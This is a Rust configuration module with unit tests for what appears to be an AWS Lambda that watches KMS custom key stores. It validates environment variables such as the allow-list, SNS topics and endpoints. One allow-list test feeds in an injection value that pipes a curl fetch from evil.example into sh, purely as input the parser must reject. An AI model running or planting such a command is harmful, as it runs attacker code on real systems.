//! The configuration: environment variables → [`Config`]. It is public interface, and the
//! documentation describes it.

use std::{collections::BTreeSet, ffi::OsString, fmt, path::PathBuf};

use crate::{
    guard::AllowList,
    ids::{KeyStoreId, TopicArn},
    text,
};

/// What the function was deployed with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Config {
    /// `ALLOWED_KEY_STORE_IDS`: comma-separated IDs, or `*` alone. Required.
    pub allowed: AllowList,
    /// `TOPIC_ARN`: the topic of the notices. Required.
    pub topic: TopicArn,
    /// `DRY_RUN`: `true` makes every run a dry run. Default `false`.
    pub dry_run: bool,
    /// `AWS_REGION`: the function's own Region, which Lambda sets. KMS is called here.
    pub region: String,
    /// `CHAT_TOPIC_ARN`: a second, standard topic, for chat.
    pub chat_topic: Option<TopicArn>,
    /// `IMPACT_REPORT`: `false` leaves the impact out of drills. Default `true`.
    pub impact_report: bool,
    /// Where AWS is called, if not at the Region's public endpoints.
    pub endpoints: Endpoints,
    /// What every report says of this function.
    pub function: Function,
}

/// What every report says of the function, whether it works or not.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Function {
    /// `AWS_LAMBDA_FUNCTION_NAME`, which Lambda sets.
    pub name: Option<String>,
    /// Its ARN, as the invocation names it; absent in Init.
    pub arn: Option<String>,
    /// `AWS_LAMBDA_LOG_STREAM_NAME`, which Lambda sets.
    pub log_stream: Option<String>,
    /// `RUNBOOK_URL`: where the people who are woken find what to do.
    pub runbook: Option<String>,
    /// The digest of the allow-list, as an auditor files it; absent if the list is faulty.
    pub allow_list_sha256: Option<String>,
}

/// The SDK's endpoint variables, and where the root certificates are. The function reads the SDK's
/// variables itself: the SDK panics on an empty one, and refuses every call with one that has no
/// scheme. A deployment fault would then look like a fault of the function.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Endpoints {
    /// `AWS_ENDPOINT_URL_KMS`, or else `AWS_ENDPOINT_URL`.
    pub kms: Option<String>,
    /// `AWS_ENDPOINT_URL_SNS`, or else `AWS_ENDPOINT_URL`.
    pub sns: Option<String>,
    /// `AWS_USE_FIPS_ENDPOINT`.
    pub use_fips: bool,
    /// `AWS_USE_DUALSTACK_ENDPOINT`.
    pub use_dual_stack: bool,
    /// The root certificates that AWS's certificates are checked with.
    pub root_certificates: RootCertificates,
}

/// Where the root certificates are.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum RootCertificates {
    /// Where this machine has them.
    #[default]
    Machine,
    /// In the file that `SSL_CERT_FILE` names.
    File(PathBuf),
    /// `SSL_CERT_DIR` is set: in its directories, and in the file of `SSL_CERT_FILE` if that is set
    /// too.
    Directories,
}

impl Config {
    /// Reads the configuration through `lookup`, which answers for one variable's name.
    ///
    /// # Errors
    /// [`InvalidConfiguration`] with every fault, not just the first.
    pub fn from_lookup(lookup: impl Fn(&str) -> Option<OsString>) -> Result<Self, Box<InvalidConfiguration>> {
        let mut variables = Variables {
            lookup,
            faults: Vec::new(),
        };
        let allowed = variables.read("ALLOWED_KEY_STORE_IDS", LIST, allow_list);
        let topic = variables.read("TOPIC_ARN", TOPIC, topic_arn);
        let dry_run = variables.read("DRY_RUN", BOOLEAN, |held| boolean(held, false));
        // The SDK's own order.
        let is_set = |name: &&str| (variables.lookup)(name).is_some();
        let name = ["AWS_REGION", "AWS_DEFAULT_REGION"].into_iter().find(is_set);
        let region = variables.read(name.unwrap_or("AWS_REGION"), REGION, region);
        let chat_topic = variables.read("CHAT_TOPIC_ARN", CHAT_TOPIC, chat_topic).flatten();
        let impact_report = variables.read("IMPACT_REPORT", BOOLEAN, |held| boolean(held, true));
        let endpoints = variables.endpoints();
        let function = Function {
            name: variables.text("AWS_LAMBDA_FUNCTION_NAME"),
            arn: None,
            log_stream: variables.text("AWS_LAMBDA_LOG_STREAM_NAME"),
            runbook: variables.read("RUNBOOK_URL", RUNBOOK, runbook).flatten(),
            allow_list_sha256: allowed.as_ref().map(AllowList::sha256),
        };
        let faults = variables.faults;
        match (allowed, topic, dry_run, region) {
            (Some(allowed), Some(topic), Some(dry_run), Some(region)) if faults.is_empty() => Ok(Self {
                allowed,
                topic,
                dry_run,
                region,
                chat_topic,
                impact_report: impact_report.unwrap_or(true),
                endpoints,
                function,
            }),
            (_, topic, _, region) => Err(Box::new(InvalidConfiguration {
                faults,
                topic,
                region,
                chat_topic,
                endpoints,
                function,
            })),
        }
    }
}

/// The function was deployed with settings that it cannot work with, so it does nothing.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub struct InvalidConfiguration {
    /// Every fault, in the order in which the variables are read; never empty.
    pub faults: Vec<Fault>,
    /// Where it can be reported: the topic, if that variable was good.
    pub topic: Option<TopicArn>,
    /// The function's Region, if that variable was good.
    pub region: Option<String>,
    /// The topic of the chat, if that variable was good.
    pub chat_topic: Option<TopicArn>,
    /// The endpoints, as far as their variables were good.
    pub endpoints: Endpoints,
    /// What every report says of this function.
    pub function: Function,
}

impl InvalidConfiguration {
    /// The names of the faulty variables, for a sentence.
    #[must_use]
    pub fn variables(&self) -> String {
        let names: Vec<_> = self.faults.iter().map(|fault| fault.variable).collect();
        names.join(", ")
    }
}

impl fmt::Display for InvalidConfiguration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("the function's environment is faulty, so no event is acted on: ")?;
        let count = self.faults.len().max(1);
        let faults: Vec<_> = self
            .faults
            .iter()
            .map(|fault| fault.shown(HELD_SHOWN / count))
            .collect();
        let whole = faults.join("; ");
        if whole.chars().count() <= FAULTS_SHOWN {
            return f.write_str(&whole);
        }
        let share = (FAULTS_SHOWN / count).saturating_sub(CUT);
        let cut: Vec<_> = faults.iter().map(|fault| text::cut(fault, share)).collect();
        f.write_str(&cut.join("; "))
    }
}

/// One variable whose value is not what it should be.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fault {
    /// The variable's name.
    pub variable: &'static str,
    /// What it held; absent if it was not set.
    pub held: Option<String>,
    /// What is wrong with that, in a few words.
    pub why: String,
    /// What it should hold.
    pub expected: &'static str,
}

/// The faults of one message have at most so many characters: a report has room for 1,600, with the
/// introduction.
const FAULTS_SHOWN: usize = 1500;
/// The values of all faulty variables share so many of them. A topic's ARN has at most some 330
/// characters, and a list of the ten key stores of an account has 260.
const HELD_SHOWN: usize = 700;
/// A text that [`text::cut`] has cut is longer by at most this, with the separator after it.
const CUT: usize = 36;

impl Fault {
    /// The fault as a part of a sentence, with at most `limit` characters of what the variable
    /// held.
    fn shown(&self, limit: usize) -> String {
        let found = match &self.held {
            None => "is not set".into(),
            Some(held) => format!("is {}: {}", text::quote_to(limit, held), self.why),
        };
        format!("{} {found}, expected {}", self.variable, self.expected)
    }
}

const LIST: &str = "custom key store IDs separated by commas, such as cks-1234567890abcdef0, or * alone for any";
const TOPIC: &str = "the ARN of an SNS topic, such as arn:aws:sns:us-east-1:123456789012:key-store-notices";
const CHAT_TOPIC: &str = "the ARN of a standard SNS topic (not FIFO), or nothing";
const RUNBOOK: &str = "an https:// address of at most 512 characters, or nothing";
const BOOLEAN: &str = "true or false";
const REGION: &str =
    "the Region's code, such as us-east-1 (Lambda sets it; set it yourself when you run the function elsewhere)";
/// The address of any service, of KMS, and of SNS.
const ENDPOINTS: [&str; 3] = ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_KMS", "AWS_ENDPOINT_URL_SNS"];
const ENDPOINT: &str = "an http:// or https:// URL, or nothing";

/// The environment, and what is wrong with it so far.
struct Variables<L> {
    lookup: L,
    faults: Vec<Fault>,
}

impl<L: Fn(&str) -> Option<OsString>> Variables<L> {
    /// Reads one variable. A value that is not text is a fault: it must not count as unset, because
    /// that would arm a function whose `DRY_RUN` cannot be read.
    fn read<T>(
        &mut self,
        variable: &'static str,
        expected: &'static str,
        parse: impl Fn(Option<&str>) -> Result<T, String>,
    ) -> Option<T> {
        let (held, parsed) = match (self.lookup)(variable).map(OsString::into_string) {
            Some(Err(bytes)) => (
                Some(bytes.to_string_lossy().into_owned()),
                Err("it is not UTF-8 text".into()),
            ),
            Some(Ok(text)) => {
                let parsed = parse(Some(&text));
                (Some(text), parsed)
            }
            None => (None, parse(None)),
        };
        parsed
            .map_err(|why| {
                self.faults.push(Fault {
                    variable,
                    held,
                    why,
                    expected,
                });
            })
            .ok()
    }

    /// A variable that Lambda sets, and that is only reported.
    fn text(&self, variable: &str) -> Option<String> {
        let text = (self.lookup)(variable)?.into_string().ok()?;
        (!text.is_empty()).then_some(text)
    }

    fn endpoints(&mut self) -> Endpoints {
        let is_ignored = self.flag("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS");
        let mut endpoint = |name| {
            if is_ignored {
                None
            } else {
                self.read(name, ENDPOINT, endpoint).flatten()
            }
        };
        let [any, kms, sns] = ENDPOINTS.map(&mut endpoint);
        let (kms, sns) = (kms.or_else(|| any.clone()), sns.or(any));
        // One that is faulty counts too, so that both faults are reported.
        let is_set = |name: &&str| (self.lookup)(name).is_some_and(|held| !held.is_empty());
        let own = ENDPOINTS.into_iter().find(is_set).filter(|_| !is_ignored);
        Endpoints {
            use_fips: self.flag_without("AWS_USE_FIPS_ENDPOINT", own),
            use_dual_stack: self.flag_without("AWS_USE_DUALSTACK_ENDPOINT", own),
            kms,
            sns,
            root_certificates: self.root_certificates(),
        }
    }

    fn root_certificates(&self) -> RootCertificates {
        match ((self.lookup)("SSL_CERT_FILE"), (self.lookup)("SSL_CERT_DIR")) {
            (_, Some(_)) => RootCertificates::Directories,
            (Some(file), None) => RootCertificates::File(file.into()),
            (None, None) => RootCertificates::Machine,
        }
    }

    /// One of the SDK's switches, which it reads in any case. Empty counts as unset.
    fn flag(&mut self, variable: &'static str) -> bool {
        let parse = |held: Option<&str>| match held.map(str::to_ascii_lowercase).as_deref() {
            None | Some("" | "false") => Ok(false),
            Some("true") => Ok(true),
            Some(_) => Err("it is neither".into()),
        };
        self.read(variable, BOOLEAN, parse).unwrap_or_default()
    }

    /// The same for a switch that the SDK does not take beside an endpoint: it then refuses every
    /// call.
    fn flag_without(&mut self, variable: &'static str, endpoint: Option<&str>) -> bool {
        let is_on = self.flag(variable);
        if let Some(endpoint) = endpoint.filter(|_| is_on) {
            self.faults.push(Fault {
                variable,
                held: Some("true".into()),
                why: format!("an endpoint is set too ({endpoint}), and the SDK refuses every call with both"),
                expected: "no endpoint beside it, or AWS_IGNORE_CONFIGURED_ENDPOINT_URLS=true",
            });
            return false;
        }
        is_on
    }
}

fn endpoint(held: Option<&str>) -> Result<Option<String>, String> {
    let Some(url) = held.filter(|url| !url.is_empty()) else {
        return Ok(None);
    };
    let is_url = |uri: &http::Uri| {
        matches!(uri.scheme_str(), Some("http" | "https")) && uri.host().is_some_and(|host| !host.is_empty())
    };
    match url.parse::<http::Uri>() {
        Ok(uri) if is_url(&uri) => Ok(Some(url.to_owned())),
        Ok(_) | Err(_) => Err("it is not such a URL".into()),
    }
}

/// How many wrong entries of the list are named. More would push the faults of other variables out
/// of the report.
const ENTRIES_SHOWN: usize = 3;

fn allow_list(held: Option<&str>) -> Result<AllowList, String> {
    let held = held.unwrap_or_default().trim();
    if held == "*" {
        return Ok(AllowList::Any);
    }
    if held.is_empty() {
        return Err("it names no key store".into());
    }
    let mut ids = BTreeSet::new();
    let mut faults = Vec::new();
    for entry in held.split(',').map(str::trim) {
        match entry.parse::<KeyStoreId>() {
            Ok(id) => {
                ids.insert(id);
            }
            Err(_) if entry == "*" => faults.push("* is beside other entries".into()),
            Err(why) => faults.push(format!("the entry {} {why}", text::quote(entry))),
        }
    }
    if faults.is_empty() {
        return Ok(AllowList::These(ids));
    }
    let more = faults.len().saturating_sub(ENTRIES_SHOWN);
    faults.truncate(ENTRIES_SHOWN);
    if more > 0 {
        faults.push(format!("and {more} more entries are wrong"));
    }
    Err(faults.join(", "))
}

fn topic_arn(held: Option<&str>) -> Result<TopicArn, String> {
    held.unwrap_or_default()
        .trim()
        .parse()
        .map_err(|why| format!("it {why}"))
}

fn chat_topic(held: Option<&str>) -> Result<Option<TopicArn>, String> {
    let Some(arn) = held.map(str::trim).filter(|arn| !arn.is_empty()) else {
        return Ok(None);
    };
    match topic_arn(Some(arn))? {
        fifo if fifo.is_fifo() => Err("it is a FIFO topic, and chat takes none".into()),
        topic => Ok(Some(topic)),
    }
}

fn runbook(held: Option<&str>) -> Result<Option<String>, String> {
    let Some(url) = held.filter(|url| !url.is_empty()) else {
        return Ok(None);
    };
    let is_address = url.strip_prefix("https://").is_some_and(|rest| !rest.is_empty());
    let count = url.chars().count();
    if count > 512 {
        Err(format!("it has {count} characters"))
    } else if !is_address || !url.chars().all(|c| c.is_ascii_graphic()) {
        Err("it is not such an address".into())
    } else {
        Ok(Some(url.to_owned()))
    }
}

fn boolean(held: Option<&str>, default: bool) -> Result<bool, String> {
    match held {
        None => Ok(default),
        Some("true") => Ok(true),
        Some("false") => Ok(false),
        Some(_) => Err("it is neither".into()),
    }
}

fn region(held: Option<&str>) -> Result<String, String> {
    match held {
        Some(region) if !region.is_empty() => Ok(region.to_owned()),
        _ => Err("it is empty".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: [(&str, &str); 3] = [
        ("ALLOWED_KEY_STORE_IDS", "cks-1, cks-2,cks-1"),
        ("TOPIC_ARN", "arn:aws:sns:us-east-1:123456789012:t"),
        ("AWS_REGION", "us-east-1"),
    ];

    fn config(changes: &[(&str, Option<&str>)]) -> Result<Config, Box<InvalidConfiguration>> {
        Config::from_lookup(|name| {
            changes
                .iter()
                .find(|(changed, _)| *changed == name)
                .map_or_else(
                    || GOOD.iter().find(|(good, _)| *good == name).map(|(_, value)| *value),
                    |(_, value)| *value,
                )
                .map(OsString::from)
        })
    }

    #[test]
    fn allow_list_has_commas_and_dry_run_is_off_by_default() {
        let config = config(&[]).unwrap();
        let ids = ["cks-1", "cks-2"].map(|id| id.parse().unwrap());
        assert_eq!(config.allowed, AllowList::These(BTreeSet::from(ids)));
        assert!(!config.dry_run);
    }

    #[test]
    fn a_star_allows_any_only_alone() {
        let star = |value| config(&[("ALLOWED_KEY_STORE_IDS", Some(value))]);
        assert_eq!(star("*").unwrap().allowed, AllowList::Any);
        assert!(star("cks-1,*").unwrap_err().to_string().contains("* is beside"));
    }

    #[test]
    fn each_bad_entry_of_the_allow_list_is_reported() {
        let message = config(&[("ALLOWED_KEY_STORE_IDS", Some("cks 1,cks-2,,*"))])
            .unwrap_err()
            .to_string();
        for part in [
            "the entry \"cks 1\" is not an ID",
            "the entry \"\" is empty",
            "* is beside other entries",
        ] {
            assert!(message.contains(part), "{part} is not in {message}");
        }
        assert!(!message.contains("\"cks-2\""), "{message}");
    }

    #[test]
    fn value_of_a_faulty_variable_is_reported_whole() {
        let arn = format!("arn:aws:sqs:us-east-1:123456789012:{}", "n".repeat(256));
        let message = config(&[("TOPIC_ARN", Some(&arn))]).unwrap_err().to_string();
        assert!(message.contains(&format!("\"{arn}\"")), "{message}");
    }

    #[test]
    fn the_region_is_found_where_the_sdk_finds_it() {
        let region = |changes: &[(&str, Option<&str>)]| config(changes).unwrap().region;
        let default = ("AWS_DEFAULT_REGION", Some("eu-west-1"));
        assert_eq!(region(&[default]), "us-east-1", "AWS_REGION comes first");
        assert_eq!(region(&[("AWS_REGION", None), default]), "eu-west-1");
        let empty = [("AWS_REGION", None), ("AWS_DEFAULT_REGION", Some(""))];
        let message = config(&empty).unwrap_err().to_string();
        assert!(message.contains("AWS_DEFAULT_REGION is \"\""), "{message}");
    }

    #[test]
    fn dry_run_is_true_or_false_and_nothing_else() {
        let dry_run = |value| config(&[("DRY_RUN", Some(value))]).map(|config| config.dry_run);
        assert_eq!(dry_run("true"), Ok(true));
        assert_eq!(dry_run("false"), Ok(false));
        for bad in ["TRUE", "1", "yes", "", " true"] {
            let message = dry_run(bad).unwrap_err().to_string();
            assert!(message.contains("DRY_RUN"), "{message}");
            assert!(message.contains("expected true or false"), "{message}");
        }
    }

    #[test]
    fn all_faults_are_reported_in_one_message() {
        let message = config(&[
            ("ALLOWED_KEY_STORE_IDS", None),
            ("TOPIC_ARN", Some("notices")),
            ("DRY_RUN", Some("yes")),
            ("AWS_REGION", None),
        ])
        .unwrap_err()
        .to_string();
        for part in [
            "ALLOWED_KEY_STORE_IDS is not set, expected custom key store IDs",
            "TOPIC_ARN is \"notices\": it is not the ARN of an SNS topic, expected the ARN",
            "DRY_RUN is \"yes\": it is neither, expected true or false",
            "AWS_REGION is not set",
        ] {
            assert!(message.contains(part), "{part} is not in {message}");
        }
    }

    #[test]
    fn empty_or_bad_allow_list_is_a_fault() {
        for bad in [
            "",
            " ",
            ",",
            "cks-1,",
            "cks 1",
            "payments-hsm",
            "[\"cks-1\"]",
            "cks-1;cks-2",
            "\"cks-1\"",
            "'cks-1'",
            "x;curl${IFS}evil.example|sh",
            &"c".repeat(65),
        ] {
            let error = config(&[("ALLOWED_KEY_STORE_IDS", Some(bad))]).unwrap_err();
            assert_eq!(error.faults.len(), 1, "{bad:?}");
            assert!(error.topic.is_some(), "the topic is known, so it can be reported");
        }
    }

    #[test]
    fn chat_topic_is_standard_and_optional() {
        let chat = |value| config(&[("CHAT_TOPIC_ARN", Some(value))]).map(|config| config.chat_topic);
        assert_eq!(chat("").unwrap(), None);
        let arn = "arn:aws:sns:eu-west-1:123456789012:chat";
        assert_eq!(chat(arn).unwrap().unwrap().as_str(), arn);
        for bad in ["chat", "arn:aws:sns:eu-west-1:123456789012:chat.fifo"] {
            let message = chat(bad).unwrap_err().to_string();
            assert!(message.contains(&format!("CHAT_TOPIC_ARN is \"{bad}\"")), "{message}");
        }
    }

    #[test]
    fn runbook_is_an_https_address_of_at_most_512_characters() {
        let runbook = |value| config(&[("RUNBOOK_URL", Some(value))]).map(|config| config.function.runbook);
        assert_eq!(runbook("").unwrap(), None);
        let longest = format!("https://{}", "r".repeat(504));
        assert_eq!(runbook(&longest).unwrap(), Some(longest.clone()));
        for bad in ["http://wiki", "wiki", "https://", "https://a b", &format!("{longest}r")] {
            let message = runbook(bad).unwrap_err().to_string();
            assert!(message.contains("RUNBOOK_URL is "), "{message}");
        }
    }

    #[test]
    fn endpoints_are_the_services_own_or_the_common_one() {
        let all = [
            ("AWS_ENDPOINT_URL", Some("http://127.0.0.1:1")),
            ("AWS_ENDPOINT_URL_SNS", Some("https://vpce.example")),
        ];
        let endpoints = config(&all).unwrap().endpoints;
        assert_eq!(endpoints.kms.as_deref(), Some("http://127.0.0.1:1"));
        assert_eq!(endpoints.sns.as_deref(), Some("https://vpce.example"));
        let empty = [("AWS_ENDPOINT_URL", Some("")), ("AWS_ENDPOINT_URL_KMS", Some(""))];
        assert_eq!(config(&empty).unwrap().endpoints, Endpoints::default());
    }

    #[test]
    fn root_certificates_are_where_the_variables_say() {
        let found = |settings: &[_]| config(settings).unwrap().endpoints.root_certificates;
        let (file, directory) = (("SSL_CERT_FILE", Some("/a.pem")), ("SSL_CERT_DIR", Some("/b")));
        assert_eq!(found(&[]), RootCertificates::Machine);
        assert_eq!(found(&[file]), RootCertificates::File("/a.pem".into()));
        assert_eq!(found(&[directory]), RootCertificates::Directories);
        assert_eq!(found(&[file, directory]), RootCertificates::Directories);
        assert_eq!(found(&[("SSL_CERT_DIR", Some(""))]), RootCertificates::Directories);
        assert_eq!(found(&[("SSL_CERT_FILE", Some(""))]), RootCertificates::File("".into()));
    }

    #[test]
    fn endpoint_that_is_not_a_url_is_a_fault_by_name() {
        for name in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_KMS", "AWS_ENDPOINT_URL_SNS"] {
            for bad in ["127.0.0.1:4566", "localhost", "ftp://x", "http://", " ", "http://a b"] {
                let message = config(&[(name, Some(bad))]).unwrap_err().to_string();
                assert!(message.contains(&format!("{name} is \"{bad}\"")), "{message}");
            }
            let ignored = [(name, Some("x")), ("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", Some("true"))];
            assert_eq!(config(&ignored).unwrap().endpoints, Endpoints::default());
        }
    }

    #[test]
    fn endpoint_beside_fips_or_dual_stack_is_a_fault() {
        for switch in ["AWS_USE_FIPS_ENDPOINT", "AWS_USE_DUALSTACK_ENDPOINT"] {
            for name in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_KMS", "AWS_ENDPOINT_URL_SNS"] {
                let both = [(name, Some("http://127.0.0.1:1")), (switch, Some("true"))];
                let message = config(&both).unwrap_err().to_string();
                assert!(message.contains(&format!("{switch} is \"true\"")), "{message}");
                let faulty = [(name, Some("x")), (switch, Some("true"))];
                assert_eq!(config(&faulty).unwrap_err().variables(), format!("{name}, {switch}"));
                let ignored = ("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", Some("true"));
                assert!(config(&[faulty[0], faulty[1], ignored]).is_ok());
            }
            let alone = config(&[(switch, Some("true"))]).unwrap().endpoints;
            assert!(alone.use_fips != alone.use_dual_stack, "{switch}");
        }
    }

    /// A report has 1,600 characters for them.
    #[test]
    fn long_values_leave_room_for_every_fault() {
        let all = [
            "ALLOWED_KEY_STORE_IDS",
            "TOPIC_ARN",
            "DRY_RUN",
            "CHAT_TOPIC_ARN",
            "IMPACT_REPORT",
            "AWS_ENDPOINT_URL",
            "AWS_ENDPOINT_URL_KMS",
            "AWS_ENDPOINT_URL_SNS",
            "AWS_USE_FIPS_ENDPOINT",
            "AWS_USE_DUALSTACK_ENDPOINT",
            "RUNBOOK_URL",
        ];
        for long in ["x".repeat(2000), "cks-\u{200b},".repeat(300)] {
            for count in 1..=all.len() {
                let faulty: Vec<_> = all[..count].iter().map(|name| (*name, Some(long.as_str()))).collect();
                let message = config(&faulty).unwrap_err().to_string();
                let length = message.chars().count();
                assert!(length <= 1600, "{length}: {message}");
                for (name, _) in faulty {
                    assert!(message.contains(&format!("{name} is \"")), "{name}: {message}");
                }
            }
        }
    }

    #[test]
    fn faults_that_have_room_are_not_cut() {
        let message = config(&[
            ("ALLOWED_KEY_STORE_IDS", Some("payments-hsm,billing-hsm,archive-hsm")),
            ("TOPIC_ARN", None),
            ("DRY_RUN", Some("yes")),
            ("IMPACT_REPORT", Some("yes")),
        ]);
        let message = message.unwrap_err().to_string();
        for expected in [LIST, TOPIC, BOOLEAN] {
            assert!(message.contains(expected), "{message}");
        }
    }

    #[test]
    fn value_that_is_not_text_is_a_fault_and_not_the_default() {
        use std::os::unix::ffi::OsStringExt as _;
        for variable in ["DRY_RUN", "TOPIC_ARN", "ALLOWED_KEY_STORE_IDS", "AWS_ENDPOINT_URL"] {
            let invalid = Config::from_lookup(|name| {
                let good = GOOD.iter().find(|(good, _)| *good == name);
                let good = good.map(|(_, value)| OsString::from(value));
                if name == variable {
                    Some(OsString::from_vec(vec![0xff]))
                } else {
                    good
                }
            });
            let message = invalid.unwrap_err().to_string();
            assert!(
                message.contains(&format!("{variable} is")) && message.contains("not UTF-8"),
                "{message}"
            );
        }
    }
}
